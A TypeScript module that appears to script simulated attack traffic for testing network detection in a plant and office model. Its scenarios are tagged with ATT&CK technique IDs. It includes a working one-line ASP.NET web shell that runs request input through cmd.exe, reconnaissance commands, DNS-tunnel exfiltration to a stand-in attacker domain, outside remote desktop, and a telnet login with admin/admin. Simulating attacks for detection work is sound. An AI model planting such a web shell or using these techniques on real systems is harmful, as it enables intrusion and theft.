/** First stages of attacks in IT, beside `intrusions.ts`: web shell, tunnel in names, remote access at night. */
import { ByteWriter } from '#bytes/write'
import { remoteDesktop } from '../../conversations/encrypted.ts'
import { lookUp } from '../../conversations/services.ts'
import { post } from '../../conversations/web.ts'
import { beyond, type Host } from '../../network/host.ts'
import { milliseconds, seconds } from '../../network/scheduler.ts'
import type { PlantStep } from '../../network/step.ts'
import type { PlantWorld } from '../../network/world.ts'
import { attack } from './intrusions.ts'
import type { Office } from './office.ts'

export interface FurtherIntrusionPlan {
  readonly office: Office
  /** Serves pages on port 80. */
  readonly webServer: Host
  readonly operatorHost: Host
  readonly engineering: Host
}

/** A name server of RFC 2606 that an attacker runs. */
const TUNNEL_DOMAIN = 'cdn.example.net'

export function moreIntrusions({
  office,
  webServer,
  operatorHost,
  engineering,
}: FurtherIntrusionPlan): PlantStep<PlantWorld>[] {
  const [pc] = office.pcs as readonly [Host, ...Host[]]
  const outside = beyond('remote.example.org', '203.0.113.77')
  return [
    attack({
      ...{ id: 'web-shell', kind: 'L', technique: 'T0866', actor: pc, victims: [webServer] },
      acts: ['remote-execution', 'script', 'file-drop'],
      *play(world) {
        const common = {
          ...{ server: webServer, agent: 'python-requests/2.31', product: 'Microsoft-IIS/10.0' },
          type: 'application/x-www-form-urlencoded',
        }
        const text = (body: string) => new TextEncoder().encode(body)
        const page =
          '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe","/c "+Request["c"]); %>'
        yield* post(world, pc, {
          ...common,
          path: '/upload.aspx?name=help.aspx',
          body: text(page),
          answer: text('OK'),
        })
        for (const [command, answer] of [
          ['whoami', 'nt authority\\network service'],
          ['ipconfig /all', 'Windows IP Configuration'],
          ['net user', 'Administrator Guest operator'],
        ] as const) {
          yield* post(world, pc, {
            ...{
              ...common,
              path: '/files/help.aspx',
              body: text(`c=cmd.exe+/c+${command}`),
              answer: text(answer),
            },
          })
          yield seconds(3)
        }
      },
    }),
    attack({
      ...{ id: 'tunnel-in-names', kind: 'L', technique: 'T0869', actor: operatorHost },
      ...{ victims: [office.domainController], acts: ['beacon', 'exfiltration'], isStatistical: true },
      *play(world) {
        const random = world.random('tunnel')
        const label = () => [...random.bytes(24)].map((byte) => byte.toString(16).padStart(2, '0')).join('')
        for (let i = 0; i < 60; i++) {
          yield* lookUp(world, operatorHost, {
            ...{ server: office.domainController, name: `${label()}.${label()}.${i}.${TUNNEL_DOMAIN}` },
            ...{ answer: label(), type: 16 },
          })
          yield milliseconds(700)
        }
      },
    }),
    attack({
      ...{ id: 'desktop-from-outside', kind: 'A', technique: 'T0822', actor: outside },
      ...{ victims: [engineering], acts: ['remote-desktop'] },
      play: (world) =>
        remoteDesktop(world, outside, { server: engineering, user: 'administrator', forSeconds: 45 }),
    }),
    attack({
      ...{ id: 'console-with-known-password', kind: 'L', technique: 'T1694.001', actor: pc },
      ...{ victims: [office.switches[0]!], acts: ['default-password', 'remote-execution'] },
      *play(world) {
        const ascii = (text: string) => new ByteWriter().ascii(text).take()
        const connection = yield* world.connect(pc, office.switches[0]!, 23)
        yield* connection.receive(ascii('\r\nUser Access Verification\r\n\r\nUsername: '))
        yield* connection.ask(ascii('admin\r\n'), ascii('admin\r\nPassword: '))
        yield* connection.ask(ascii('admin\r\n'), ascii('\r\nswitch> '))
        yield* connection.ask(
          ascii('show running-config\r\n'),
          ascii('show running-config\r\nhostname core\r\nswitch> '),
        )
        yield* connection.close()
      },
    }),
  ]
}
